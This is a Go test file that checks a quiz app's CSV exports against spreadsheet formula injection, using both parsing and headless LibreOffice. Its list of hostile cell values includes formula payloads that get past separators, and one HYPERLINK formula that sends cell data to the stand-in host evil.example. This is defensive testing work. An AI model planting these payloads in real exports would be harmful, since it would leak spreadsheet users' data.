package export

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/huddle-live/huddle/internal/session"
)

// hostileCells are player texts built to run as formulas once a spreadsheet
// splits the CSV at ';', the list separator of a Russian Excel, or at a
// line break inside a cell; several also begin with a formula.
var hostileCells = []string{
	"x;=1+1",
	"=1+1;x",
	"a;b;=1+1;+1+1;-1+1;@SUM(1)",
	`x;"=1+1`,
	`x";=1+1`,
	`x;"";=1+1`,
	"x;;=1+1",
	"x,=1+1",
	"x; =1+1",
	"line\n=1+1",
	"line\r\n=1+1",
	"tab\t=1+1",
	`x;=HYPERLINK("http://evil.example/?"&A1;"приз")`,
	"Итоги; -5 семей",
}

// hostileFiles writes every CSV export, each with hostileCells in its
// player-written fields: answers, a game's reasons, a board's
// recommendations.
func hostileFiles(t *testing.T) map[string][]byte {
	t.Helper()
	quizRes := fixture()
	q := &quizRes.Questions[1]
	q.Answers = nil
	for i, h := range hostileCells {
		q.Answers = append(q.Answers, session.AnswerResult{Player: fmt.Sprint("p", i), Name: fmt.Sprint("Игрок ", i), Team: "Совы", Answer: h, Counted: true})
	}
	gameRes := gameFixture()
	path := &gameRes.Games[0].Teams[0].Path
	for i, h := range hostileCells {
		*path = append(*path, session.GameStepResult{Case: "noshow", CaseTitle: "Волонтёры", Text: fmt.Sprint("Шаг ", i), Why: h, By: "team"})
	}
	boardRes := boardFixture()
	recs := &boardRes.Boards[0].Recommendations
	for i := 0; i < len(hostileCells); i += 3 {
		rec := session.RecommendationOut{Rank: 3 + i, Title: fmt.Sprint("Тема ", i), Action: hostileCells[i]}
		if i+1 < len(hostileCells) {
			rec.Deadline = hostileCells[i+1]
		}
		if i+2 < len(hostileCells) {
			rec.Risk = hostileCells[i+2]
		}
		*recs = append(*recs, rec)
	}
	files := map[string][]byte{}
	for name, write := range map[string]func(*bytes.Buffer) error{
		"answers": func(b *bytes.Buffer) error { return CSV(b, quizRes, "ru") },
		"game":    func(b *bytes.Buffer) error { return CSV(b, gameRes, "ru") },
		"board":   func(b *bytes.Buffer) error { return BoardCSV(b, boardRes, "ru") },
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		files[name] = b.Bytes()
	}
	return files
}

// withoutApostrophes undoes the neutralising, and LibreOffice's CRLF to LF,
// to compare a cell with what a player typed.
func withoutApostrophes(s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(s, "'", ""), "\r\n", "\n")
}

// TestCSVEverySeparator reads every CSV export both ways Excel does: split
// at ',' honouring quotes, as encoding/csv and most locales do, and split at
// every ';' and line break, which is where a Russian Excel may start a field
// (it honours a quote only at a field's start). Read at ',', each hostile
// text is one cell; split at ';', no field starts a formula.
func TestCSVEverySeparator(t *testing.T) {
	for name, file := range hostileFiles(t) {
		t.Run(name, func(t *testing.T) {
			body, ok := bytes.CutPrefix(file, []byte(utf8BOM))
			if !ok {
				t.Fatal("no UTF-8 BOM")
			}
			records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			cells := map[string]bool{}
			for _, rec := range records {
				for _, f := range rec {
					cells[withoutApostrophes(f)] = true
					if f != "" && formulaStart(f[0]) && !isNegativeDecimal(f) {
						t.Errorf("field %q starts a formula", f)
					}
				}
			}
			for _, h := range hostileCells {
				if !cells[withoutApostrophes(h)] {
					t.Errorf("%q is not one cell of the file", h)
				}
			}
			for _, piece := range strings.FieldsFunc(string(body), func(r rune) bool { return r == ';' || r == '\n' || r == '\r' }) {
				if p := strings.TrimLeft(piece, `"`); p != "" && formulaStart(p[0]) {
					t.Errorf("split at ';', the file has a field %q that starts a formula", piece)
				}
			}
		})
	}
}

// libreOffice finds LibreOffice. CI installs it; under CI a missing
// LibreOffice fails the test.
func libreOffice(t *testing.T) string {
	t.Helper()
	lo, err := exec.LookPath("libreoffice")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("libreoffice is not installed")
		}
		t.Skip("libreoffice is not installed")
	}
	return lo
}

// loCells converts CSV files with LibreOffice Calc, fields split at sep and
// formulas evaluated as Excel does, and returns every non-empty cell of
// each, by file name, with its formula if it has one.
func loCells(t *testing.T, lo, dir string, sep byte, files map[string][]byte) map[string][][2]string {
	t.Helper()
	in := filepath.Join(dir, fmt.Sprint("in", sep))
	out := filepath.Join(dir, fmt.Sprint("out", sep))
	if err := os.MkdirAll(in, 0o755); err != nil {
		t.Fatal(err)
	}
	args := []string{"--headless", "-env:UserInstallation=file://" + filepath.Join(dir, "profile"),
		// separator, '"' quotes, UTF-8, from line 1, standard columns, en-US,
		// quoted text not forced to text, detect numbers, …, evaluate formulas
		fmt.Sprintf("--infilter=CSV:%d,34,76,1,,1033,false,true,false,false,false,-1,true", sep),
		"--convert-to", "xlsx", "--outdir", out}
	for name, b := range files {
		p := filepath.Join(in, name+".csv")
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
		args = append(args, p)
	}
	b, err := exec.Command(lo, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("libreoffice: %v\n%s", err, b)
	}
	if bytes.Contains(b, []byte("could not be loaded")) { // LibreOffice without Calc
		if os.Getenv("CI") == "true" {
			t.Fatalf("LibreOffice Calc is not installed:\n%s", b)
		}
		t.Skipf("LibreOffice Calc is not installed:\n%s", b)
	}
	got := map[string][][2]string{}
	for name := range files {
		f, err := excelize.OpenFile(filepath.Join(out, name+".xlsx"))
		if err != nil {
			t.Fatalf("%s did not convert: %v", name, err)
		}
		sheet := f.GetSheetList()[0]
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := f.GetCellFormula(sheet, ref)
				if err != nil {
					t.Fatal(err)
				}
				if v != "" || formula != "" {
					got[name] = append(got[name], [2]string{v, formula})
				}
			}
		}
		f.Close()
	}
	return got
}

// TestCSVInLibreOffice opens every CSV export in LibreOffice Calc with ','
// and with ';' as the separator, evaluating formulas, and reads the result
// back: no cell is a formula either way, and split at ',' every hostile text
// is one cell. A probe file shows that this LibreOffice would run the
// formulas of a CSV written as before.
func TestCSVInLibreOffice(t *testing.T) {
	lo := libreOffice(t)
	dir := t.TempDir()
	files := hostileFiles(t)
	files["probe"] = []byte(utf8BOM + "a,b\nx;=1+1,\"=2+2\"\n")
	for _, sep := range []byte{',', ';'} {
		t.Run(string(sep), func(t *testing.T) {
			sheets := loCells(t, lo, dir, sep, files)
			probe := 0
			for _, c := range sheets["probe"] {
				if c[1] != "" {
					probe++
				}
			}
			if probe == 0 {
				t.Fatalf("LibreOffice ran no formula of the probe file %q: this test would prove nothing", files["probe"])
			}
			for name, cells := range sheets {
				if name == "probe" {
					continue
				}
				seen := map[string]bool{}
				for _, c := range cells {
					if c[1] != "" {
						t.Errorf("%s split at %q: cell %q is the formula %q", name, sep, c[0], c[1])
					}
					seen[withoutApostrophes(c[0])] = true
				}
				if sep != ',' {
					continue // split at ';', a row of a ','-separated file is no table anyway
				}
				for _, h := range hostileCells {
					if !seen[withoutApostrophes(h)] {
						t.Errorf("%s split at ',': %q is not one cell", name, h)
					}
				}
			}
		})
	}
}
